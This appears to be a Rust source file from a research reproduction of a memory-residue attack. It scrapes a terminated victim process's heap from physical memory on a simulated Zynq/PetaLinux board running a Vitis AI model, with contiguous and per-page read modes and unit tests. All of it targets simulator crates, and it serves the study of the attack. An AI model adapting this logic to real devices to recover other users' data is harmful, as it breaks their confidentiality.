@@ -1,0 +1,213 @@
+//! Step 3: extract data from physical addresses after victim termination.
+
+use petalinux_sim::Kernel;
+use xsdb::DebugSession;
+use zynq_dram::PAGE_SIZE;
+
+use crate::attack::ScrapeMode;
+use crate::dump::MemoryDump;
+use crate::error::AttackError;
+use crate::translate::HeapTranslation;
+
+/// Scrapes the victim's heap from physical memory using a previously captured
+/// translation.
+///
+/// The paper performs this step only after the victim's pid has disappeared
+/// from the process list; callers that want the same discipline should check
+/// [`DebugSession::is_running`] first (the [`crate::attack::AttackPipeline`]
+/// does, and returns [`AttackError::VictimStillRunning`] otherwise).
+///
+/// Two read strategies are supported:
+///
+/// - [`ScrapeMode::ContiguousRange`] — the paper's method: translate only the
+///   heap's endpoints and read the physical range between them in one sweep.
+///   Correct whenever the kernel hands out physically contiguous frames for a
+///   contiguous heap (the PetaLinux default), cheap, but defeated by
+///   physical-layout randomization.
+/// - [`ScrapeMode::PerPage`] — translate and read every page individually; a
+///   stronger attacker that tolerates scattered physical layouts.
+///
+/// # Errors
+///
+/// Returns [`AttackError::TranslationEmpty`] if the translation has no usable
+/// physical addresses, and [`AttackError::Channel`] if a physical read is
+/// denied or out of range.
+pub fn scrape_heap(
+    debugger: &mut DebugSession,
+    kernel: &Kernel,
+    translation: &HeapTranslation,
+    mode: ScrapeMode,
+) -> Result<MemoryDump, AttackError> {
+    match mode {
+        ScrapeMode::ContiguousRange => scrape_contiguous(debugger, kernel, translation),
+        ScrapeMode::PerPage => scrape_per_page(debugger, kernel, translation),
+    }
+}
+
+fn scrape_contiguous(
+    debugger: &mut DebugSession,
+    kernel: &Kernel,
+    translation: &HeapTranslation,
+) -> Result<MemoryDump, AttackError> {
+    let start = translation
+        .phys_start()
+        .ok_or(AttackError::TranslationEmpty {
+            pid: translation.pid(),
+        })?;
+    let len = translation.heap_len() as usize;
+    if len == 0 {
+        return Ok(MemoryDump::empty(translation.heap_start()));
+    }
+    // Reading beyond the DRAM window (possible when randomized layouts put the
+    // first heap page near the top of memory) is clamped rather than failed:
+    // the real attack's devmem loop would simply get errors for those words.
+    let window_end = kernel.config().dram().end();
+    let available = window_end.offset_from(start).min(len as u64) as usize;
+    let bytes = debugger.read_phys_range(kernel, start, available)?;
+    let mut padded = bytes;
+    padded.resize(len, 0);
+    Ok(MemoryDump::from_contiguous(
+        translation.heap_start(),
+        start,
+        padded,
+    ))
+}
+
+fn scrape_per_page(
+    debugger: &mut DebugSession,
+    kernel: &Kernel,
+    translation: &HeapTranslation,
+) -> Result<MemoryDump, AttackError> {
+    if translation.present_pages() == 0 {
+        return Err(AttackError::TranslationEmpty {
+            pid: translation.pid(),
+        });
+    }
+    let mut pages = Vec::with_capacity(translation.pages().len());
+    for page in translation.pages() {
+        match page {
+            Some(pa) => {
+                let bytes = debugger.read_phys_range(kernel, *pa, PAGE_SIZE as usize)?;
+                pages.push(Some((*pa, bytes)));
+            }
+            None => pages.push(None),
+        }
+    }
+    Ok(MemoryDump::from_pages(translation.heap_start(), pages))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use petalinux_sim::{BoardConfig, Pid, UserId};
+    use vitis_ai_sim::{DpuRunner, Image, ModelKind};
+    use zynq_mmu::VirtAddr;
+
+    use crate::translate::capture_heap_translation;
+
+    fn attacked_board() -> (Kernel, vitis_ai_sim::CompletedRun, HeapTranslation) {
+        let mut kernel = Kernel::boot(BoardConfig::tiny_for_tests());
+        let launched = DpuRunner::new(ModelKind::SqueezeNet)
+            .with_input(Image::corrupted(224, 224))
+            .launch(&mut kernel, UserId::new(0))
+            .unwrap();
+        let mut dbg = DebugSession::connect(UserId::new(1));
+        let translation = capture_heap_translation(&mut dbg, &kernel, launched.pid()).unwrap();
+        let run = launched.terminate(&mut kernel).unwrap();
+        (kernel, run, translation)
+    }
+
+    #[test]
+    fn both_modes_recover_identical_data_under_default_layout() {
+        let (kernel, run, translation) = attacked_board();
+        let mut dbg = DebugSession::connect(UserId::new(1));
+
+        let contiguous =
+            scrape_heap(&mut dbg, &kernel, &translation, ScrapeMode::ContiguousRange).unwrap();
+        let per_page = scrape_heap(&mut dbg, &kernel, &translation, ScrapeMode::PerPage).unwrap();
+
+        assert_eq!(contiguous.len() as u64, run.layout().heap_len);
+        assert_eq!(contiguous.as_bytes(), per_page.as_bytes());
+        assert_eq!(per_page.coverage(), 1.0);
+
+        // The scraped dump contains the model string and the corrupted-image
+        // marker, i.e. the victim's residue.
+        let hex = contiguous.to_hexdump();
+        assert!(!hex.grep("squeezenet").is_empty());
+        let marker_offset = hex.find(&[0xFF; 16]).unwrap() as u64;
+        assert_eq!(marker_offset, run.layout().image_offset);
+    }
+
+    #[test]
+    fn per_page_mode_fills_missing_pages_with_zeros() {
+        let (kernel, _run, translation) = attacked_board();
+        // Drop one page from the translation to simulate a swapped-out page.
+        let mut pages = translation.pages().to_vec();
+        pages[1] = None;
+        let partial = HeapTranslation::from_parts(
+            translation.pid(),
+            translation.heap_start(),
+            translation.heap_end(),
+            pages,
+        );
+        let mut dbg = DebugSession::connect(UserId::new(1));
+        let dump = scrape_heap(&mut dbg, &kernel, &partial, ScrapeMode::PerPage).unwrap();
+        assert_eq!(dump.missing_pages(), 1);
+        assert!(dump.coverage() < 1.0);
+        assert!(dump.as_bytes()[PAGE_SIZE as usize..2 * PAGE_SIZE as usize]
+            .iter()
+            .all(|&b| b == 0));
+    }
+
+    #[test]
+    fn empty_translation_is_rejected() {
+        let (kernel, _, translation) = attacked_board();
+        let empty = HeapTranslation::from_parts(
+            translation.pid(),
+            translation.heap_start(),
+            translation.heap_end(),
+            vec![None; translation.pages().len()],
+        );
+        let mut dbg = DebugSession::connect(UserId::new(1));
+        assert!(matches!(
+            scrape_heap(&mut dbg, &kernel, &empty, ScrapeMode::PerPage),
+            Err(AttackError::TranslationEmpty { .. })
+        ));
+        assert!(matches!(
+            scrape_heap(&mut dbg, &kernel, &empty, ScrapeMode::ContiguousRange),
+            Err(AttackError::TranslationEmpty { .. })
+        ));
+    }
+
+    #[test]
+    fn zero_length_heap_yields_empty_dump() {
+        let (kernel, _, _) = attacked_board();
+        let translation = HeapTranslation::from_parts(
+            Pid::new(77),
+            VirtAddr::new(0x1000),
+            VirtAddr::new(0x1000),
+            vec![Some(kernel.config().dram().base())],
+        );
+        let mut dbg = DebugSession::connect(UserId::new(1));
+        let dump =
+            scrape_heap(&mut dbg, &kernel, &translation, ScrapeMode::ContiguousRange).unwrap();
+        assert!(dump.is_empty());
+    }
+
+    #[test]
+    fn contiguous_read_near_window_end_is_clamped() {
+        let (kernel, _, _) = attacked_board();
+        let near_end = kernel.config().dram().end() - PAGE_SIZE;
+        let translation = HeapTranslation::from_parts(
+            Pid::new(77),
+            VirtAddr::new(0x1000),
+            VirtAddr::new(0x1000 + 4 * PAGE_SIZE),
+            vec![Some(near_end), None, None, None],
+        );
+        let mut dbg = DebugSession::connect(UserId::new(1));
+        let dump =
+            scrape_heap(&mut dbg, &kernel, &translation, ScrapeMode::ContiguousRange).unwrap();
+        // Full requested length, with the unreadable tail zero-padded.
+        assert_eq!(dump.len() as u64, 4 * PAGE_SIZE);
+    }
+}
